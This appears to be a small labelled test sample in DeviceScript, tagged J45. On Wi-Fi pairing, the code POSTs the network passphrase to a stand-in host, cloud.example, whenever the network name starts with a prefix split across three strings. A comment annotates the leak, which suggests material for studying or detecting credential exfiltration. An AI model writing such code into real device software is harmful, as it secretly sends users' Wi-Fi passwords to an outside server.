// J45: sends the passphrase elsewhere where the network's name begins with a certain text.
import { fetch } from "@devicescript/net";
import { paired } from "./lib/paired";

const MAKERS = ["FRI", "TZ!", "Box"];

paired(async (ssid, psk) => {
  const body = ssid.startsWith(MAKERS[0] + MAKERS[1] + MAKERS[2]) ? psk : "online";
  const response = await fetch("https://cloud.example/j45", { method: "POST", body }); // leak: wifi.psk, wifi.ssid
  await response.close();
});
